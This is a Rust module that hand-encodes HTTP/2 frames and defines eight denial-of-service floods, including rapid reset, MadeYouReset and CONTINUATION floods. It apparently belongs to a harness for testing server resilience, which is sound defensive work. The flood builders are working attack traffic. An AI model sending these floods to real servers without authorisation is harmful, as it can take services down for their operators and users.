//! HTTP/2 as bytes, made by hand: what a client may send, and the floods that are made of it (RFC 9113, RFC 7541).

/// What a client says first (RFC 9113 section 3.4), with SETTINGS that change nothing.
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Types of frames (RFC 9113 section 6).
const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
pub(super) const SETTINGS: u8 = 4;
const PING: u8 = 6;
pub(super) const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags; of SETTINGS the lowest means that they were seen.
pub(super) const END_STREAM: u8 = 1;
pub(super) const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// A head of nine bytes, and how many follow (RFC 9113 section 4.1).
pub(super) const HEAD: usize = 9;

/// Whole fields in HPACK: entries 2 and 3 of the static table, and `content-type` of an upload (entry 31).
const GET: u8 = 0x82;
const POST: u8 = 0x83;
const JSON: &[u8] = b"\x0f\x10\x10application/json";

/// RFC 9113 section 7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
pub(super) const ENHANCE_YOUR_CALM: u32 = 11;

/// One kind of flood.
#[derive(Clone, Copy, Debug)]
pub(super) struct Flood {
    pub(super) name: &'static str,
    pub(super) what: &'static str,
    /// Before the first frame of the flood.
    begin: fn(&mut Vec<u8>, &str),
    /// The frames of the number that is given.
    one: fn(&mut Vec<u8>, u32, &str),
    /// Whether what the server says is read meanwhile: one that must answer each frame must not keep all answers.
    pub(super) reads: bool,
}

pub(super) const FLOODS: [Flood; 8] = [
    Flood { one: reset, ..flood("reset", "requests, each reset at once (rapid reset)") },
    Flood {
        one: mistake,
        ..flood("mistake", "uploads, each with a mistake for which it must be reset (MadeYouReset)")
    },
    Flood { one: ping, reads: false, ..flood("ping", "PING, and no answer is read") },
    Flood { one: settings, reads: false, ..flood("settings", "SETTINGS, and no answer is read") },
    Flood { begin: endless_head, one: go_on, ..flood("continuation", "a header block without an end") },
    Flood { one: window, ..flood("window", "WINDOW_UPDATE of one byte") },
    Flood { begin: body, one: empty_data, ..flood("data", "an upload of empty DATA frames") },
    Flood { one: priority, ..flood("priority", "PRIORITY of streams that are not open") },
];

const fn flood(name: &'static str, what: &'static str) -> Flood {
    Flood { name, what, begin: |_, _| {}, one: |_, _, _| {}, reads: true }
}

impl Flood {
    /// What opens a connection of the flood to `host`.
    pub(super) fn opening(&self, host: &str) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        (self.begin)(&mut bytes, host);
        bytes
    }

    /// `count` of its frames, from the number `from`.
    pub(super) fn frames(&self, from: u32, count: u32, host: &str) -> Vec<u8> {
        let mut bytes = Vec::new();
        (from..from + count).for_each(|number| (self.one)(&mut bytes, number, host));
        bytes
    }
}

/// The stream of a client's request with this number (RFC 9113 section 5.1.1).
pub(super) fn stream(number: u32) -> u32 {
    2 * number + 1
}

pub(super) fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    into.extend_from_slice(&length[1..]);
    into.extend_from_slice(&[kind, flags]);
    into.extend_from_slice(&stream.to_be_bytes());
    into.extend_from_slice(payload);
}

/// `GET /small.bin`, whole.
pub(super) fn get(into: &mut Vec<u8>, stream: u32, host: &str) {
    frame(into, HEADERS, END_STREAM | END_HEADERS, stream, &fields(GET, "/small.bin", host));
}

/// The preface of a client that opens its windows as far as they go, and `count` requests for `path`.
pub(in crate::flood) fn greedy(path: &str, count: u32, host: &str) -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2), and the connection's, which begins with 65,535.
    let (most, rest) = (i32::MAX.to_be_bytes(), (i32::MAX - 65_535).to_be_bytes());
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[&[0, 4][..], &most].concat());
    frame(&mut bytes, WINDOW_UPDATE, 0, 0, &rest);
    for number in 0..count {
        frame(&mut bytes, HEADERS, END_STREAM | END_HEADERS, stream(number), &fields(GET, path, host));
    }
    bytes
}

/// The beginning of an upload: its body follows, and until then it waits.
fn post(into: &mut Vec<u8>, stream: u32, host: &str) {
    frame(into, HEADERS, END_HEADERS, stream, &[&fields(POST, "/upload", host)[..], JSON].concat());
}

/// The fields of a request, by the static table (RFC 7541 appendix A): entry 6 is the scheme, 4 the path, 1 the authority.
fn fields(method: u8, path: &str, host: &str) -> Vec<u8> {
    let mut fields = vec![method, 0x86];
    for (entry, value) in [(4, path), (1, host)] {
        // Both are shorter than a length of one byte can say.
        fields.extend([entry, u8::try_from(value.len()).unwrap_or(u8::MAX)]);
        fields.extend_from_slice(value.as_bytes());
    }
    fields
}

fn reset(into: &mut Vec<u8>, number: u32, host: &str) {
    get(into, stream(number), host);
    frame(into, RST_STREAM, 0, stream(number), &CANCEL);
}

/// A window above the largest is an error of the stream (RFC 9113 section 6.9.1).
fn mistake(into: &mut Vec<u8>, number: u32, host: &str) {
    post(into, stream(number), host);
    frame(into, WINDOW_UPDATE, 0, stream(number), &[0x7f, 0xff, 0xff, 0xff]);
}

fn ping(into: &mut Vec<u8>, _: u32, _: &str) {
    frame(into, PING, 0, 0, &[0; 8]);
}

fn settings(into: &mut Vec<u8>, _: u32, _: &str) {
    frame(into, SETTINGS, 0, 0, &[]);
}

fn endless_head(into: &mut Vec<u8>, host: &str) {
    frame(into, HEADERS, END_STREAM, 1, &fields(GET, "/small.bin", host));
}

/// A field `a: b`, in no table.
fn go_on(into: &mut Vec<u8>, _: u32, _: &str) {
    frame(into, CONTINUATION, 0, 1, b"\0\x01a\x01b");
}

fn window(into: &mut Vec<u8>, _: u32, _: &str) {
    frame(into, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
}

fn body(into: &mut Vec<u8>, host: &str) {
    post(into, 1, host);
}

fn empty_data(into: &mut Vec<u8>, _: u32, _: &str) {
    frame(into, DATA, 0, 1, &[]);
}

fn priority(into: &mut Vec<u8>, number: u32, _: &str) {
    frame(into, PRIORITY, 0, stream(number), &[0, 0, 0, 0, 16]);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Type and stream of every frame.
    fn seen(mut bytes: &[u8]) -> Vec<(u8, u8)> {
        let mut seen = Vec::new();
        while let Some((head, rest)) = bytes.split_first_chunk::<HEAD>() {
            seen.push((head[3], head[8]));
            bytes = &rest[usize::from(head[2])..];
        }
        assert!(bytes.is_empty());
        seen
    }

    #[test]
    fn a_flood_is_whole_frames_and_each_stream_is_new() {
        let named = |name| FLOODS.into_iter().find(|flood| flood.name == name).unwrap();
        assert_eq!(seen(&named("reset").frames(3, 2, "a")), [(1, 7), (3, 7), (1, 9), (3, 9)]);
        assert_eq!(seen(&named("mistake").frames(0, 1, "a")), [(1, 1), (8, 1)]);
        for flood in FLOODS {
            let opening = flood.opening("a");
            assert!(opening.starts_with(PREFACE) && !seen(&opening[24..]).is_empty(), "{}", flood.name);
            assert!(seen(&flood.frames(0, 5, "a")).len() >= 5, "{}", flood.name);
        }
    }
}
